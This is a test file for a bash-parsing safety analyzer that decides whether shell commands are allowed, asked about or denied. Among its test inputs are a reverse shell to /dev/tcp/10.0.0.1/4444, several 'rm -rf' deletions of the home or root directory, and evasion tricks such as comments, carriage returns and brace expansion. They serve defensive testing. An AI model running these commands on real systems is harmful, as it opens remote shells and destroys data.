// The analysis's own bash parser (src/safety/bash/parse): every construct yields the
// sub-commands bash would run, with the words bash would pass; the cases tree-sitter-bash
// 0.25.1 got wrong come out as bash reads them; and what bash rejects is an error that says
// where, never a guess.
import { describe, expect, test } from "bun:test";
import { analyzeBash, parseBash } from "../../src/safety/index.ts";

const argvs = (command: string) => analyzeBash(command).commands.map((c) => c.argv.join(" "));

describe("bash parser: the commands a line runs", () => {
  test.each([
    ["a | b && c || d; e & f", ["a", "b", "c", "d", "e", "f"]],
    ["X=1 cmd -x \"q $v\" 's' $'\\n' 2>&1 >out", ["cmd -x q $v s \n"]],
    ["if a; then b; elif c; then d; else e; fi", ["a", "b", "c", "d", "e"]],
    ["while read -r l; do echo \"$l\"; done < list", ["read -r l", "echo $l"]],
    ["until false; do :; done", ["false", ":"]],
    ["for f in *.ts; do wc -l \"$f\"; done", ["wc -l $f"]],
    ["for ((i = 0; i < $(nproc); i++)); do echo $i; done", ["nproc", "echo $i"]],
    ["select x in a b; do break; done", ["break"]],
    ["case $x in a|b) rm a;; (c) rm c;& *) ls;;& esac", ["rm a", "rm c", "ls"]],
    ["f() { rm -rf x; }; function g { ls; }; h() ( pwd )", ["rm -rf x", "ls", "pwd"]],
    ["(cd x && make) | { tee log; }", ["cd x", "make", "tee log"]],
    ["! grep -q x f |& wc -l", ["grep -q x f", "wc -l"]],
    ["[[ -f $(which id) && $x =~ ^(a|b)$ ]] && ls", ["[[ -f $(which id) && $x =~ ^(a|b)$", "which id", "ls"]],
    ["((n += $(id -u))); echo $((1 + `id -g`))", ["id -u", "echo $((1 + `id -g`))", "id -g"]],
    ["x=(a $(id) b) y[$(uname)]=1 env", ["env", "id", "uname"]],
    ["echo ${x:-$(whoami)} \"${y/#a/$(hostname)}\"", ["echo ${x:-$(whoami)} ${y/#a/$(hostname)}", "whoami", "hostname"]],
    ["diff <(ls a) >(wc -l) a<(ls b)", ["diff <(ls a) >(wc -l) a<(ls b)", "ls a", "wc -l", "ls b"]],
    ["export A=1 B; local c; declare -a d=(1 2); unset x", ["export A=1 B", "local c", "declare -a d=(1 2)", "unset x"]],
    ["ls # ; rm -rf /", ["ls"]],
    ["echo a#b; echo #c", ["echo a#b", "echo"]],
    ["time make -j4 | tail", ["time make -j4", "tail"]],
  ])("%s", (command, expected) => {
    const a = analyzeBash(command);
    expect(a.parsed).toBe(true);
    expect(argvs(command)).toEqual(expected);
  });

  test("heredocs: bodies end at their delimiter line, <<- strips tabs, a quoted delimiter keeps $(…) literal", () => {
    expect(argvs("cat <<EOF | sh\n$(id)\nEOF\nls")).toEqual(["cat", "id", "sh", "ls"]);
    expect(argvs("cat <<-\tEOF\n\t$(id)\n\tEOF\nls")).toEqual(["cat", "id", "ls"]);
    expect(argvs("cat <<'EOF' > f\n$(rm -rf ~)\nEOF")).toEqual(["cat"]);
    expect(argvs("a <<A; b <<B\n1\nA\n2\nB\nc")).toEqual(["a", "b", "c"]);
    expect(argvs("echo $(cat <<EOF\n$(id)\nEOF\n)")).toEqual(["echo $(cat <<EOF\n$(id)\nEOF\n)", "cat", "id"]);
  });

  test("backticks: escaped backticks inside one are a nested substitution, as bash runs them", () => {
    expect(argvs("echo `echo \\`id\\``")).toEqual(["echo `echo \\`id\\``", "echo `id`", "id"]);
    expect(argvs('echo "`printf \\"%s\\" x`"')).toEqual(['echo `printf \\"%s\\" x`', "printf %s x"]);
  });
});

describe("bash parser: plain words (no node made) end exactly where bash ends them", () => {
  // The parser reads a plain run without making a node; whatever a plain run touches — a
  // glob, an escape, a $, a brace, a process substitution, an extglob — is read as before.
  test.each([
    ["diff a<(ls b) c>(wc -l)", [["diff", "a<(ls b)", "c>(wc -l)"], ["ls", "b"], ["wc", "-l"]], [false, true, true]],
    ["echo a*b c?d e[1] f]g", [["echo", "a*b", "c?d", "e[1]", "f]g"]], [false, true, true, true, false]],
    ["echo a\\ b a$ {a,b} é", [["echo", "a b", "a$", "{a,b}", "é"]], [false, false, false, true, false]],
    ["ls @(x|y) }x", [["ls", "@(x|y)", "}x"]], [false, false, false]],
    ["X=1 cmd arg>out 2>&1", [["cmd", "arg"]], [false, false]],
    ["f () { ls; }; export A=1 B; unset X", [["ls"], ["export", "A=1", "B"], ["unset", "X"]], [false]],
  ] as const)("%s", (command, argvs, dynamic) => {
    const a = analyzeBash(command);
    expect(a.parsed).toBe(true);
    expect(a.commands.map((c) => c.argv)).toEqual(argvs.map((x) => [...x]));
    expect(a.commands[0]?.dynamic).toEqual([...dynamic]);
  });
});

describe("bash parser: where tree-sitter-bash 0.25.1 read the line wrongly", () => {
  test("words after a redirect are the command's, and 0>&1 is fd 0's", () => {
    const a = analyzeBash("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1");
    expect(a.commands[0]?.argv).toEqual(["bash", "-i"]);
    expect(a.commands[0]?.redirects).toEqual([
      { op: ">&", target: "/dev/tcp/10.0.0.1/4444", dynamic: false },
      { op: ">&", target: "1", dynamic: false, fd: "0" },
    ]);
    expect(analyzeBash("cmd >out arg").commands[0]?.argv).toEqual(["cmd", "arg"]);
  });

  test("python3 - <<PY keeps its `-`; a redirect in a chain stays on its own command", () => {
    expect(analyzeBash("python3 - <<'PY'\nimport os\nPY").commands[0]?.argv).toEqual(["python3", "-"]);
    const a = analyzeBash("git add -A && npm run build 2>&1 | tee log");
    expect(a.commands.map((c) => [c.argv[0], c.redirects.length, c.context])).toEqual([
      ["git", 0, []],
      ["npm", 1, ["pipeline"]],
      ["tee", 0, ["pipeline"]],
    ]);
  });

  test("newlines inside double quotes and line continuations are kept as bash keeps them", () => {
    expect(analyzeBash('git commit -m "a\n\nb"').commands[0]?.argv).toEqual(["git", "commit", "-m", "a\n\nb"]);
    expect(argvs("ec\\\nho a\\\nb c")).toEqual(["echo ab c"]);
    expect(argvs("echo safe\rrm -rf ~")).toEqual(["echo safe\rrm -rf ~"]);
  });

  test("brace expansion is dynamic: {rm,-rf,src} is not a literal word", () => {
    const a = analyzeBash("{rm,-rf,src}");
    expect(a.commands[0]?.dynamic).toEqual([true]);
    expect(a.checks.map((c) => c.id)).toContain("dynamic-command");
    expect(analyzeBash("mkdir -p src/{a,b}").commands[0]?.dynamic).toEqual([false, false, true]);
  });
});

describe("bash parser: what bash rejects is a parse error that says where", () => {
  test.each([
    ['echo "open', /unterminated " \(opened at 5\)/],
    ["ls 'open", /unterminated ' \(opened at 3\)/],
    ["echo `id", /unterminated ` \(opened at 5\)/],
    ["echo $(ls", /missing \)/],
    ["echo ${x", /unterminated \$\{ \(opened at 5\)/],
    ["if true; then ls", /missing fi for the construct opened at 0/],
    ["for x in a; do echo", /missing done/],
    ["case x in a) ls;;", /missing esac/],
    ["{ ls", /missing \} for the construct opened at 0/],
    ["(cd x", /missing \) for the construct opened at 0/],
    ["git status &&", /nothing after &&/],
    ["ls |", /nothing after \|/],
    ["echo (a)", /unexpected "\(" at 5/],
    ["a; then b", /unexpected "then" at 3/],
    ["ls )", /unexpected "\)" at 3/],
    [";", /unexpected ";" at 0/],
    ["{ }", /nothing after \{/],
    ["cat <<EOF\nno end", /heredoc "EOF" opened at 4 is never closed/],
    ["cat <<EOF", /heredoc "EOF" opened at 4 has no body/],
    ["ls >", /> at 3 has no target/],
    ["a[b c", /looking for the \] of the subscript opened at 1/],
    ["f() ls", /the function at 0 has no body/],
  ])("%s", (command, message) => {
    const parsed = parseBash(command);
    expect(parsed.errors[0]).toMatch(message);
    const a = analyzeBash(command);
    expect({ parsed: a.parsed, verdict: a.verdict, first: a.checks[0]?.id }).toEqual({ parsed: false, verdict: "ask", first: "parse-error" });
  });

  test("after an error the next lines are still read, so what they run is still judged", () => {
    const a = analyzeBash("echo (broken\nrm -rf ~");
    expect(a.parsed).toBe(false);
    expect(a.verdict).toBe("deny");
    expect(a.commands.map((c) => c.argv[0])).toContain("rm");
  });

  test("nesting past the parser's depth is an error, not a stack overflow", () => {
    const deep = `${"{ ".repeat(500)}ls${"; }".repeat(500)}`;
    const a = analyzeBash(deep);
    expect(a.verdict).not.toBe("allow");
    expect(a.checks.map((c) => c.id).some((id) => id === "parse-error" || id === "nesting-limit")).toBe(true);
  });
});
